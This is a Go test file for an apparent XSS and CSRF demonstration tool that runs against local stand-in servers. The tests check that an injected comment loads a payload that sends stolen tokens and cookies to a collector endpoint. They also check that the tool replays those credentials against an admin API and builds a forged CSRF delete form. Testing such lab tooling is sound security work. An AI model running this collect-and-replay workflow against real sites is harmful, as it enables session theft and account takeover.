package attacker

import (
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"unicode/utf8"
)

// victimApp is a stand-in target that accepts one bearer token and one
// session cookie on the admin path.
func victimApp(t *testing.T, token, cookie string) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c, err := r.Cookie("sid")
		if !(err == nil && c.Value == cookie) && r.Header.Get("Authorization") != "Bearer "+token {
			http.Error(w, "no", http.StatusUnauthorized)
			return
		}
		switch r.URL.Path {
		case DefaultIdentityPath:
			w.Write([]byte(`{"user":"admin"}`))
		case DefaultReplayPath:
			w.Write([]byte(`[]`))
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	return srv
}

func newAttacker(t *testing.T, targets ...Target) (*Server, *httptest.Server) {
	t.Helper()
	srv := httptest.NewUnstartedServer(nil)
	base := "http://" + srv.Listener.Addr().String()
	s, err := New(Config{BaseURL: base, Targets: targets})
	if err != nil {
		t.Fatal(err)
	}
	srv.Config.Handler = s.Handler()
	srv.Start()
	t.Cleanup(srv.Close)
	return s, srv
}

func request(t *testing.T, method, url, body string, h http.Header) (*http.Response, string) {
	t.Helper()
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range h {
		req.Header[k] = v
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res, string(b)
}

func TestNewRejectsBadConfig(t *testing.T) {
	_, err := New(Config{BaseURL: "javascript:alert(1)", Targets: []Target{
		{Name: "a b", URL: "http://localhost:1"},
		{Name: "x", URL: "http://localhost:1/path"},
		{Name: "x", URL: "http://localhost:1\"onload=x"},
	}})
	if !errors.Is(err, ErrInvalidConfig) {
		t.Fatalf("got %v, want ErrInvalidConfig", err)
	}
	for _, want := range []string{"BaseURL", "plain word", "not an origin", "appears twice", "onload"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error %q does not mention %q", err, want)
		}
	}
}

func TestCollectAndReplay(t *testing.T) {
	app := victimApp(t, "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJlLXNpZ25hdHVyZQ", "")
	s, srv := newAttacker(t, Target{Name: "jwt", URL: app.URL})

	// The payload names the collector, and the comment names the payload.
	res, body := request(t, "GET", srv.URL+"/payload.js", "", nil)
	if !strings.Contains(body, `"`+srv.URL+`/collect"`) || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/javascript") {
		t.Errorf("payload.js does not post to %s/collect", srv.URL)
	}
	if c := Comment(srv.URL); !strings.Contains(c, srv.URL+"/payload.js") || !strings.Contains(c, "onerror=") {
		t.Errorf("comment %q does not load the payload", c)
	}

	// Only the collector is CORS-open.
	res, _ = request(t, "OPTIONS", srv.URL+"/collect", "", http.Header{"Origin": {"http://localhost:1"}, "Access-Control-Request-Method": {"POST"}})
	if res.StatusCode != http.StatusNoContent || res.Header.Get("Access-Control-Allow-Origin") != "*" || res.Header.Get("Access-Control-Allow-Credentials") != "" {
		t.Errorf("preflight: %d %v", res.StatusCode, res.Header)
	}
	res, _ = request(t, "GET", srv.URL+"/", "", nil)
	if res.Header.Get("Access-Control-Allow-Origin") != "" || !strings.Contains(res.Header.Get("Content-Security-Policy"), "script-src 'self'") {
		t.Errorf("collector page headers: %v", res.Header)
	}

	report := Report{
		Page:         app.URL + "/",
		LocalStorage: map[string]string{"guestbook.token": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJlLXNpZ25hdHVyZQ", "note": "<script>alert(1)</script>"},
		Me:           &Probe{Status: 200, Body: `{"user":"admin","roles":["admin"]}`},
		AdminCall:    &Probe{Status: 200, Body: `[]`},
	}
	b, _ := json.Marshal(report)
	res, _ = request(t, "POST", srv.URL+"/collect", string(b), http.Header{"Origin": {app.URL}, "Content-Type": {"text/plain"}})
	if res.StatusCode != http.StatusNoContent || res.Header.Get("Access-Control-Allow-Origin") != "*" {
		t.Fatalf("collect: %d", res.StatusCode)
	}
	res, _ = request(t, "POST", srv.URL+"/collect", strings.Repeat("x", maxLootBytes+1), nil)
	if res.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("oversized report: got %d, want 413", res.StatusCode)
	}
	loot := s.Loot()
	if len(loot) != 1 || loot[0].Report == nil || loot[0].Report.Victim() != "admin" {
		t.Fatalf("loot = %+v", loot)
	}

	// The page replays the stolen token and says it works; the loot is
	// shown escaped.
	_, page := request(t, "GET", srv.URL+"/", "", nil)
	for _, want := range []string{"STOLEN CREDENTIAL STILL WORKS", "jwt via Authorization: Bearer: accepted as admin, admin API HTTP 200", "app took it for admin", "victim: <strong>admin</strong>", "&lt;script&gt;alert(1)"} {
		if !strings.Contains(page, want) {
			t.Errorf("collector page lacks %q", want)
		}
	}
	if strings.Contains(page, "<script>alert(1)") {
		t.Error("collector page renders loot unescaped")
	}
	_, status := request(t, "GET", srv.URL+"/status.json", "", nil)
	if status != `{"received":1}` {
		t.Errorf("status.json = %s", status)
	}
}

func TestReplayRefused(t *testing.T) {
	app := victimApp(t, "the-real-token-nobody-has", "the-real-cookie-nobody-has")
	s, srv := newAttacker(t, Target{Name: "cloakroom", URL: app.URL, SessionCookie: "sid"})
	b, _ := json.Marshal(Report{Page: app.URL + "/", AuthSession: &Probe{Status: 200, Body: `{"user":"admin","csrf_token":"Zm9vYmFyYmF6cXV4cXV1eGZvb2Jhcg"}`}})
	request(t, "POST", srv.URL+"/collect", string(b), nil)
	reps := s.Replay(t.Context(), Target{Name: "cloakroom", URL: app.URL, SessionCookie: "sid"}, "Zm9vYmFyYmF6cXV4cXV1eGZvb2Jhcg")
	if len(reps) != 2 || reps[0].IdentityStatus != 401 || reps[1].IdentityStatus != 401 || reps[0].Works() || reps[1].Works() {
		t.Errorf("replays = %+v, want two 401s", reps)
	}
	if got := s.Replay(t.Context(), Target{Name: "cloakroom", URL: app.URL, SessionCookie: "sid"}, "the-real-cookie-nobody-has"); !got[1].Works() || got[1].User != "admin" || got[1].Status != 200 {
		t.Errorf("the real cookie was refused: %+v", got)
	}
	_, page := request(t, "GET", srv.URL+"/", "", nil)
	if !strings.Contains(page, "Nothing stolen works from here") || strings.Contains(page, "STILL WORKS") {
		t.Error("collector page does not say the replays failed")
	}
}

func TestCSRFPage(t *testing.T) {
	_, srv := newAttacker(t, Target{Name: "cloakroom", URL: "http://localhost:1"})
	res, page := request(t, "GET", srv.URL+"/csrf?target=cloakroom&comment=7", "", nil)
	if res.StatusCode != 200 || !strings.Contains(page, `action="http://localhost:1/api/comments/7/delete"`) {
		t.Errorf("csrf page: %d %s", res.StatusCode, page)
	}
	if csp := res.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "form-action http://localhost:1") {
		t.Errorf("csrf page CSP %q does not allow the forged form", csp)
	}
	for _, q := range []string{"?target=other", "?target=cloakroom&comment=x", "?target=cloakroom&comment=0"} {
		if res, _ := request(t, "GET", srv.URL+"/csrf"+q, "", nil); res.StatusCode != http.StatusBadRequest {
			t.Errorf("/csrf%s: got %d, want 400", q, res.StatusCode)
		}
	}
}

func TestCandidates(t *testing.T) {
	jwt := "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJl"
	body := `{"page":"http://localhost:1/","cookie":"","localStorage":{"t":"` + jwt + `"},` +
		`"authSession":{"status":200,"body":"{\"csrf_token\":\"QUJDREVGR0hJSktMTU5PUFFSU1RVVg\"}"}}`
	got := Candidates([]byte(body))
	if len(got) != 2 || got[0] != jwt || got[1] != "QUJDREVGR0hJSktMTU5PUFFSU1RVVg" {
		t.Errorf("Candidates = %q", got)
	}
	if got := Candidates([]byte("plain text with a-token-like-string-42-here inside")); len(got) != 1 {
		t.Errorf("Candidates(text) = %q", got)
	}
	if got := Candidates([]byte(`{"guestbook.token_expires_at":"x","v":"width=device-width, initial-scale=1"}`)); len(got) != 0 {
		t.Errorf("Candidates(identifiers) = %q, want none", got)
	}
}

func FuzzCandidates(f *testing.F) {
	f.Add([]byte(`{"a":"eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0."}`))
	f.Add([]byte(`{"a":"[\"{\\\"b\\\":\\\"QUJDREVGR0hJSktMTU5PUFFSU1RVVg\\\"}\"]"}`))
	f.Add([]byte("not json at all ============================"))
	f.Fuzz(func(t *testing.T, body []byte) {
		got := Candidates(body)
		if len(got) > maxCandidates {
			t.Fatalf("%d candidates", len(got))
		}
		for _, c := range got {
			if len(c) < minCandidateLength || !utf8.ValidString(c) || !tokenLike.MatchString(c) || !randomLooking(c) {
				t.Fatalf("candidate %q", c)
			}
		}
	})
}
